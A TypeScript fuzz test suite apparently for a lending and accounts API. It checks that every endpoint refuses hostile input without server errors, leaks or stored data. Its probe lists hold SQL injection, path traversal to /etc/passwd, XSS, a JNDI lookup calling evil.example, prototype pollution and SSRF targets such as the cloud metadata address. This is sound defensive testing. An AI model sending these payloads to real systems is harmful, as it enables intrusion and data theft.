/**
 * Fuzz: random and hostile bodies, path params, query strings and headers against every mounted endpoint (accounts,
 * catalog, lending, signing, push). Hostile text includes NUL, lone surrogates, huge numbers and exponent notation;
 * every query key of the endpoint is fuzzed, and every numeric field of every query and body gets huge, tiny,
 * negative and exponent-notation numbers. No 5xx, no stack trace or internal detail in any answer, every failure is
 * `{ httpCode, code, message }`, and a refused call stores nothing.
 */

import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { mountedEndpoints } from '../../server/app.ts';
import type { Endpoint } from '../../src/api/contract/endpoint.ts';
import { pushEndpointProblem } from '../../src/api/contract/push.ts';
import { rowCounts as countRows, fileApi, PUSH_KEYS } from './helpers.ts';
import { applicationBody, PROMOTER_PURCHASE } from './lending/harness.ts';

const api = fileApi();
let tokens: string[];
beforeAll(async () => {
  tokens = [];
  for (const kind of ['client', 'client-ephemeral', 'business', 'expired'] as const) {
    tokens.push(await api.tokenFor(kind));
  }
});

const HOSTILE = [
  "' OR '1'='1' --",
  "'; DROP TABLE clients; --",
  '../../../../etc/passwd',
  '..%2F..%2Fetc%2Fpasswd',
  '<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-injection probe, literally
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '\u0000',
  'a\u0000b',
  '%00',
  '\uD800',
  '\uDC00x',
  'x\uD83D',
  '99999999999999999999',
  '1e5',
  '1E+2',
  '-1e308',
  '1e-7',
  '0x10',
  'Infinity',
  '9007199254740993',
  '🙂🙃',
  'ÁÉÍÓÚÑ',
  'a'.repeat(5000),
  '-1',
  '1e309',
  'NaN',
  'null',
  'undefined',
  '__proto__',
  'constructor',
  ' ',
  '',
];

const hostileString = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 20 }),
);
const scalars = [fc.integer(), fc.double(), fc.boolean(), fc.constant(null)];
const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileString,
  ...scalars,
  fc.array(hostileString, { maxLength: 3 }),
  fc.dictionary(hostileString, hostileString, { maxKeys: 3 }),
);

type ZodDef = {
  type?: string;
  shape?: Record<string, unknown>;
  innerType?: unknown;
  in?: unknown;
  out?: unknown;
  element?: unknown;
  options?: unknown[];
};
const defOf = (schema: unknown) => (schema as { _zod?: { def?: ZodDef } } | undefined)?._zod?.def;

function keysOf(schema: unknown): string[] {
  const shape = defOf(schema)?.shape;
  return shape ? Object.keys(shape) : [];
}

/** Paths of every number (or number-coerced) field of a request schema. */
function numericPaths(schema: unknown, prefix: string[] = []): string[][] {
  const def = defOf(schema);
  switch (def?.type) {
    case 'number':
      return [prefix];
    case 'object':
      return Object.entries(def.shape ?? {}).flatMap(([k, v]) => numericPaths(v, [...prefix, k]));
    case 'optional':
    case 'nullable':
    case 'default':
    case 'prefault':
    case 'readonly':
    case 'nonoptional':
      return numericPaths(def.innerType, prefix);
    case 'pipe': {
      const first = numericPaths(def.in, prefix);
      return first.length ? first : numericPaths(def.out, prefix);
    }
    case 'array':
      return numericPaths(def.element, [...prefix, '0']);
    case 'union':
      return (def.options ?? []).flatMap((o) => numericPaths(o, prefix));
    default:
      return [];
  }
}

type Issue = { path: PropertyKey[]; errors?: Issue[][] };
/** Every issue path, the ones inside union branches included (`a.b`). */
function issuePaths(issues: readonly Issue[], prefix: PropertyKey[] = []): string[] {
  return issues.flatMap((i) => [
    [...prefix, ...i.path].map(String).join('.'),
    ...(i.errors ?? []).flatMap((branch) => issuePaths(branch, [...prefix, ...i.path])),
  ]);
}

/** Percent-encodes any text, lone surrogates included (as their WTF-8 bytes, which `encodeURIComponent` refuses). */
function encodeAny(s: string): string {
  let out = '';
  for (const ch of s) {
    const code = ch.codePointAt(0)!;
    if (code >= 0xd800 && code <= 0xdfff) {
      out += [0xe0 | (code >> 12), 0x80 | ((code >> 6) & 0x3f), 0x80 | (code & 0x3f)]
        .map((b) => `%${b.toString(16).toUpperCase()}`)
        .join('');
    } else out += encodeURIComponent(ch);
  }
  return out;
}

/** An object with only `path` set to `value` (arrays as index 0). */
function withPath(path: string[], value: unknown): unknown {
  if (path.length === 0) return value;
  const [head, ...rest] = path;
  return head === '0' ? [withPath(rest, value)] : { [head!]: withPath(rest, value) };
}

/** Numeric fields the server may leave unbounded (none today: `expirationTime` of a push subscription is bounded). */
const UNBOUNDED_OK = new Set<string>();

const HUGE_NUMBERS: readonly unknown[] = [1e20, 1e308, -1e308, 2 ** 53 + 2];
const HUGE_NUMBER_TEXT = ['99999999999999999999', '1e20', '1E+300', '-1e308', '9007199254740993', 'Infinity'];
const ODD_NUMBER_TEXT = ['1e5', '1.2e1', '1e-7', '1e-400', '-0', '0x10', '0b1', ' 12 ', '1_000', 'NaN'];

/** Valid values for query keys, so that one hostile numeric field at a time reaches the handler. */
const QUERY_BASE: Record<string, string> = {
  creditAmount: '10000',
  requestedPeriod: '12',
  type: 'PERSONAL_LOAN',
  name: 'a',
  limit: '1',
};

type Arbitraries = Record<string, fc.Arbitrary<unknown>>;
const DEEP_NESTING = `${'['.repeat(5000)}${']'.repeat(5000)}`;

/** Bodies: anything, raw junk text, or the endpoint's own keys with hostile values. */
const bodyFor = (e: Endpoint) =>
  fc.oneof(
    fc.record({ kind: fc.constant('json' as const), value: fc.anything({ maxDepth: 3 }) }),
    fc.record({
      kind: fc.constant('raw' as const),
      value: fc.oneof(
        fc.string({ maxLength: 200 }),
        fc.constantFrom('{', '[[[[', '{"__proto__":{"admin":true}}', DEEP_NESTING, 'null', '"x"'),
      ),
    }),
    fc.record({
      kind: fc.constant('json' as const),
      value: fc.record(Object.fromEntries(keysOf(e.body).map((k) => [k, hostileValue])) as Arbitraries),
    }),
  );

const headerArb = fc.record({
  authorization: fc.option(
    fc.oneof(
      fc.constantFrom(...['Bearer ', 'Bearer x.y.z', 'Basic YWRtaW46YWRtaW4=', `Bearer ${'a'.repeat(3000)}`]),
      fc.integer({ min: 0, max: 3 }).map((i) => `Bearer ${tokens[i]}`),
      hostileString.map((s) => `Bearer ${s.replace(/[\r\n]/g, '')}`),
    ),
    { nil: undefined },
  ),
  contentType: fc.option(
    fc.constantFrom(
      'application/json',
      'text/plain',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=x',
      'application/json; charset=latin1',
    ),
    { nil: undefined },
  ),
  requestId: fc.option(hostileString, { nil: undefined }),
});

const COUNTED = ['clients', 'credentials', 'client_settings', 'addresses', 'one_time_codes', 'outbox'];
const rowCounts = () => countRows(api, [...COUNTED, 'push_subscriptions', 'referrals', 'analytics_events']);

const safeHeaderValue = (s: string) => s.replace(/[^\x20-\x7e]/g, '');

function checkAnswer(e: Endpoint, status: number, text: string): string | null {
  if (status >= 500) return `${e.id}: ${status}`;
  if (/\n\s+at |node_modules|\.ts:\d+|Error:|DrizzleQueryError|syntax error at/i.test(text))
    return `${e.id}: leaks ${text.slice(0, 120)}`;
  if (status >= 400) {
    let body: { httpCode?: unknown; code?: unknown; message?: unknown };
    try {
      body = JSON.parse(text);
    } catch {
      return `${e.id}: non-JSON error ${status}`;
    }
    if (body.httpCode !== status || typeof body.code !== 'string' || typeof body.message !== 'string') {
      return `${e.id}: bad error body ${text.slice(0, 120)}`;
    }
  }
  return null;
}

describe('fuzz', () => {
  it('every endpoint survives random and hostile input without 5xx, leaks or stored data', async () => {
    const endpoints = mountedEndpoints(api.app);
    expect(endpoints.length).toBeGreaterThan(20);
    const problems: string[] = [];
    for (const e of endpoints) {
      const paramNames = [...e.path.matchAll(/:([A-Za-z0-9_]+)/g)].map((m) => m[1]!);
      await fc.assert(
        fc.asyncProperty(
          fc.array(hostileString, { minLength: paramNames.length, maxLength: paramNames.length }),
          fc.dictionary(
            fc.constantFrom(
              ...new Set(['name', 'limit', 'phoneNumber', 'curp', 'email', 'to', 'x', ...keysOf(e.query)]),
            ),
            hostileString,
            { maxKeys: 4 },
          ),
          bodyFor(e),
          headerArb,
          async (params, query, body, headers) => {
            let i = 0;
            const path = e.path.replace(/:([A-Za-z0-9_]+)/g, () => encodeAny(params[i++] ?? '') || 'x');
            const qs = new URLSearchParams(query).toString();
            const before = await rowCounts();
            const h: Record<string, string> = {};
            if (headers.authorization) h.authorization = safeHeaderValue(headers.authorization);
            if (headers.contentType) h['content-type'] = headers.contentType;
            if (headers.requestId !== undefined) h['x-request-id'] = safeHeaderValue(headers.requestId);
            const res = await api.request(e.method, `/api${path}${qs ? `?${qs}` : ''}`, {
              headers: h,
              ...(e.method === 'GET'
                ? {}
                : { rawBody: body.kind === 'raw' ? body.value : JSON.stringify(body.value) }),
            });
            const problem = checkAnswer(e, res.status, res.text);
            if (problem) problems.push(problem);
            if (res.status >= 400 && (await rowCounts()) !== before)
              problems.push(`${e.id}: stored data on ${res.status}`);
          },
        ),
        { numRuns: 25, seed: 20260521 + paramNames.length },
      );
    }
    expect([...new Set(problems)]).toEqual([]);
  });

  it('every numeric field of every query and body refuses a huge number (schema level)', () => {
    const accepted: string[] = [];
    for (const e of mountedEndpoints(api.app)) {
      for (const [where, schema, samples] of [
        ['query', e.query, HUGE_NUMBER_TEXT],
        ['body', e.body, HUGE_NUMBERS],
      ] as const) {
        for (const path of numericPaths(schema)) {
          const field = path.join('.');
          if (UNBOUNDED_OK.has(`${e.id} ${where} ${field}`)) continue;
          for (const value of samples) {
            const result = schema!.safeParse(withPath(path, value));
            const flagged = !result.success && issuePaths(result.error.issues).includes(field);
            if (!flagged) accepted.push(`${e.id} ${where} ${field}=${String(value)}`);
          }
        }
      }
    }
    expect(accepted).toEqual([]);
  });

  it('huge, tiny and exponent-notation numbers in every numeric query field never cause a 5xx', async () => {
    const token = tokens[0]!;
    const problems: string[] = [];
    let checked = 0;
    for (const e of mountedEndpoints(api.app)) {
      const fields = numericPaths(e.query).map((p) => p.join('.'));
      for (const field of fields) {
        for (const value of [...HUGE_NUMBER_TEXT, ...ODD_NUMBER_TEXT]) {
          const query = new URLSearchParams(
            Object.fromEntries(keysOf(e.query).map((k) => [k, QUERY_BASE[k] ?? 'x'])),
          );
          query.set(field, value);
          const res = await api.request(e.method, `/api${e.path}?${query}`, {
            token:
              e.auth !== 'public' && e.auth.includes('business') && !e.auth.includes('client')
                ? tokens[2]
                : token,
          });
          checked++;
          const problem = checkAnswer(e, res.status, res.text);
          if (problem) problems.push(`${problem} (${field}=${value})`);
          if (HUGE_NUMBER_TEXT.includes(value) && res.status !== 400)
            problems.push(`${e.id}: ${field}=${value} answered ${res.status}, not 400`);
        }
      }
    }
    expect(checked).toBeGreaterThan(0);
    expect(problems).toEqual([]);
  });

  it('NUL and lone surrogates in any path segment, query or body are refused (400), never a 5xx', async () => {
    const problems: string[] = [];
    for (const e of mountedEndpoints(api.app)) {
      for (const bad of ['\u0000', 'a\u0000b', '\uD800', 'x\uDC00']) {
        const path = e.path.replace(/:([A-Za-z0-9_]+)/g, () => encodeAny(bad));
        const withNul = e.path.includes(':') ? `/api${path}` : `/api${e.path}?x=${encodeAny(bad)}`;
        for (const token of tokens.slice(0, 3)) {
          const res = await api.request(e.method, withNul, {
            token,
            ...(e.method === 'GET' ? {} : { body: Object.fromEntries(keysOf(e.body).map((k) => [k, bad])) }),
          });
          const problem = checkAnswer(e, res.status, res.text);
          if (problem) problems.push(`${problem} (${JSON.stringify(bad)})`);
          // Past the token check, the text itself is refused: 400. (A lone surrogate cannot travel in a URL as
          // text: its percent-encoded bytes are not UTF-8 and stay as they are; it can in a JSON body.)
          const carried = bad.includes('\u0000') || (e.method !== 'GET' && keysOf(e.body).length > 0);
          if (carried && ![400, 401, 403].includes(res.status))
            problems.push(`${e.id}: ${res.status} for ${JSON.stringify(bad)}`);
        }
      }
    }
    expect(problems).toEqual([]);
  });

  it('push subscription fields: hostile values in any field never store an endpoint off the allow-list', async () => {
    const owner = await api.createClient();
    const endpoint = 'https://fcm.googleapis.com/fcm/send/fuzz';
    const valid = { endpoint, expirationTime: null as unknown, keys: PUSH_KEYS };
    const hostileEndpoint = fc.oneof(
      hostileValue,
      fc.constantFrom(
        'https://127.0.0.1:8443/x',
        'https://[::1]/x',
        'https://169.254.169.254/latest/meta-data/',
        'https://fcm.googleapis.com:8443/x',
        'https://a:b@fcm.googleapis.com/x',
        'https://fcm.googleapis.com.evil.example/x',
        'https://0x7f.1/x',
        'file:///etc/passwd',
        'javascript:alert(1)',
        `https://fcm.googleapis.com/fcm/send/${'a'.repeat(60_000)}`,
      ),
      fc.webUrl({ withQueryParameters: true, withFragments: true }),
    );
    const fields = ['endpoint', 'expirationTime', 'p256dh', 'auth', 'userAgent', 'keys', 'subscription'];
    const field = fc.constantFrom(...fields);
    const problems: string[] = [];
    await fc.assert(
      fc.asyncProperty(field, hostileEndpoint, async (name, value) => {
        const subscription: Record<string, unknown> = { ...valid, keys: { ...valid.keys } };
        let userAgent: unknown;
        if (name === 'endpoint' || name === 'expirationTime') subscription[name] = value;
        else if (name === 'p256dh' || name === 'auth')
          (subscription.keys as Record<string, unknown>)[name] = value;
        else if (name === 'keys') subscription.keys = value;
        else if (name === 'userAgent') userAgent = value;
        const body = name === 'subscription' ? { subscription: value } : { subscription, userAgent };
        const before = await rowCounts();
        const res = await api.request('POST', `/api/push-notifications/clients/${owner.id}/subscription`, {
          token: owner.token,
          rawBody: JSON.stringify(body),
          headers: { 'content-type': 'application/json' },
        });
        const e = { id: 'push.subscribe' } as Endpoint;
        const problem = checkAnswer(e, res.status, res.text);
        if (problem) problems.push(problem);
        if (res.status >= 400 && (await rowCounts()) !== before)
          problems.push(`stored data on ${res.status}`);
        if (![200, 201, 400, 413, 422].includes(res.status)) problems.push(`${name}: ${res.status}`);
      }),
      { numRuns: 150, seed: 20261126 },
    );
    const stored = await api.request<{ pushSubscriptions: Array<{ endpoint: string }> }>(
      'GET',
      `/api/push-notifications/clients/${owner.id}/subscriptions`,
      { token: owner.token },
    );
    for (const { endpoint } of stored.body.pushSubscriptions) {
      if (pushEndpointProblem(endpoint) !== null || endpoint.length > 2048)
        problems.push(`stored ${endpoint}`);
    }
    expect(stored.body.pushSubscriptions.length).toBeGreaterThan(0);
    expect([...new Set(problems)]).toEqual([]);
  });

  it("a promoter's application at any store id but her own is refused and stores nothing, never a 5xx", async () => {
    const promoter = await api.tokenFor('business');
    const client = await api.createClient();
    const own = await api.request<{ stores: { id: string }[] }>('GET', '/api/promoters/me', {
      token: promoter,
    });
    const ownStore = own.body.stores[0]!.id;
    const storeIds = fc.oneof(
      hostileString,
      fc.uuid(),
      fc.constantFrom(ownStore.toUpperCase(), ` ${ownStore}`, `${ownStore}x`, ownStore.slice(0, -1)),
      fc.integer({ min: 0, max: 99 }).map((n) => `5e000000-0000-4000-8000-${String(n).padStart(12, '0')}`),
    );
    await fc.assert(
      fc.asyncProperty(storeIds, async (storeId) => {
        fc.pre(storeId !== ownStore);
        const before = await rowCounts();
        const body = { ...PROMOTER_PURCHASE, storeId, clientId: client.id };
        const res = await api.request('POST', '/api/applications', { token: promoter, body });
        expect([400, 403]).toContain(res.status);
        expect(await rowCounts()).toBe(before);
      }),
      { numRuns: 60, seed: 20261126 },
    );
  });

  it('Idempotency-Key: 8 to 128 safe characters; a shorter, longer or odd key is a 400 that stores nothing', async () => {
    const client = await api.createClient();
    const body = applicationBody({}, false);
    const send = (key: string, token = client.token) =>
      api.request('POST', '/api/applications', { token, body, headers: { 'idempotency-key': key } });
    const odd = ['', 'k'.repeat(7), 'k'.repeat(129), 'clave con espacios', 'clave/barra1', 'clave"comilla'];
    for (const key of [...odd, 'a+b=c%2Fxyz', 'k;drop table']) {
      const before = await rowCounts();
      const res = await send(key);
      expect(res.status, JSON.stringify(key)).toBe(400);
      const message = 'El dato ingresado no es válido: Idempotency-Key';
      expect(res.body).toMatchObject({ code: 'VALIDATION_ERROR', message });
      expect(await rowCounts()).toBe(before);
    }
    // The bounds pass (a client each: a client has few open applications at once).
    for (const key of ['k'.repeat(8), 'K'.repeat(128), 'a.b_c:d-0123']) {
      expect((await send(key, (await api.createClient()).token)).status, key).toBe(200);
    }
  });

  it.each([
    [
      'oversized bodies are refused with 413',
      '/api/clients/signin',
      { email: 'a@b.mx', password: 'x'.repeat(100_000) },
    ],
    [
      'the analytics collector refuses a batch over its own 32 KB cap with 413, before reading it',
      '/api/analytics/events',
      { events: [], pad: 'x'.repeat(33 * 1024) },
    ],
  ])('%s', async (_name, path, body) => {
    const before = await rowCounts();
    const res = await api.request('POST', path, {
      rawBody: JSON.stringify(body),
      headers: { 'content-type': 'application/json' },
    });
    expect(res).toMatchObject({ status: 413, body: { httpCode: 413, code: 'PAYLOAD_TOO_LARGE' } });
    expect(await rowCounts()).toBe(before);
  });
});
